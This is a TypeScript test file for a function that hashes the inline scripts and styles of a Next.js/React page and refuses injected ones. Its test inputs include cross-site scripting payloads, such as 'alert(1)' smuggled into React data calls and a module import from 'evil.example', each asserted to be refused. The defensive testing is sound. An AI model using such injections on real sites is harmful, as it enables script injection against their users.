import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { inlineParts, REACT_SCRIPTS } from './inline-scripts.ts';

const START = '<script>(self.__next_f=self.__next_f||[]).push([0])</script>';
const piece = (text: string) =>
  `<script>self.__next_f.push([1,${JSON.stringify(text).replaceAll('<', '\\u003c')}])</script>`;
const sha = (text: string) => `sha256-${createHash('sha256').update(text).digest('base64')}`;

/** The texts of React's own inline scripts, as the installed version writes them. */
function installedReactScripts(): string[] {
  const next = path.dirname(createRequire(import.meta.url).resolve('next/package.json'));
  const source = readFileSync(
    path.join(next, 'dist/compiled/react-dom/cjs/react-dom-server.node.production.js'),
    'utf8',
  );
  const literals = source.matchAll(
    /(["'])((?:(?!\1)[^\\\n]|\\.)*(?:\$R[A-Z]|\$\$reactFormReplay)(?:(?!\1)[^\\\n]|\\.)*)\1/g,
  );
  const texts = [...literals].map(([literal]) =>
    (Function(`return ${literal}`)() as string).replace(/;?\$R[A-Z]\("$/, ''),
  );
  return [...new Set(texts)].filter(Boolean);
}

describe('inlineParts', () => {
  it('knows the scripts of the React that is installed', () => {
    const installed = installedReactScripts().map((text) => [
      text.length,
      createHash('sha256').update(text).digest('base64'),
    ]);
    expect(new Set(REACT_SCRIPTS.map(String))).toEqual(new Set(installed.map(String)));
  });

  it('joins neighbouring pieces of data, and hashes what then stands there', () => {
    const { html, scripts, refused } = inlineParts(
      `<p>a</p>${START}${piece('one')}${piece('</script>')}`,
    );
    expect(refused).toBe(0);
    const [text = ''] = [...html.matchAll(/<script>([^<]*)<\/script>/g)].map((match) => match[1]);
    expect(html.match(/<script>/g)).toHaveLength(1);
    expect(scripts).toEqual([sha(text)]);
  });

  it("lets in React's own scripts with data in their calls", () => {
    const [resume = ''] = installedReactScripts();
    const complete = installedReactScripts().find((text) => text.startsWith('$RB=')) ?? '';
    const page = `<script>${resume}</script><script>${complete}$RC("B:0","S:0")</script>`;
    expect(inlineParts(page)).toMatchObject({ refused: 0 });
    expect(inlineParts(page).scripts).toHaveLength(2);
  });

  it('lets in what became of a form that the browser sent by itself, and nothing behind it', () => {
    const start = START.replace(
      '</script>',
      ';self.__next_f.push([2,["done",null,"k1",0]])</script>',
    );
    expect(inlineParts(`${start}${piece('a')}`)).toMatchObject({ refused: 0 });
    const smuggled = start.replace(']])</script>', ']]);alert(1)</script>');
    expect(inlineParts(`${smuggled}${piece('a')}`)).toMatchObject({ refused: 1 });
  });

  it('leaves out scripts with an address and structured data', () => {
    const page =
      '<script src="/a.js" async=""></script><script type="application/ld+json">{}</script>';
    expect(inlineParts(page).refused).toBe(0);
    expect(inlineParts(page).html).toBe(page);
  });

  it.each([
    '<script>alert(1)</script>',
    '<script>self.__next_f.push([1,"a"]);alert(1)</script>',
    '<script>self.__next_f.push([1,alert(1)])</script>',
    '<script>self.__next_f.push([1,"a"]),alert(1,[2])</script>',
    '<script>$RC("B:0",alert(1))</script>',
    '<script>alert(1);$RC("B:0")</script>',
    '<script type="module">import("https://evil.example/x.js")</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<script\n>alert(1)</script>',
  ])('forbids %s, and keeps what is ours', (smuggled) => {
    const { scripts, refused, html } = inlineParts(`${START}${smuggled}${piece('b')}`);
    expect(refused).toBe(1);
    expect(html).toContain(smuggled);
    expect(scripts).toHaveLength(2);
    expect(scripts).not.toContain(sha(/>([^<]*)</.exec(smuggled)?.[1] ?? ''));
  });

  it('hashes style elements', () => {
    expect(inlineParts('<style>a{}</style>').styles).toEqual([sha('a{}')]);
  });
});
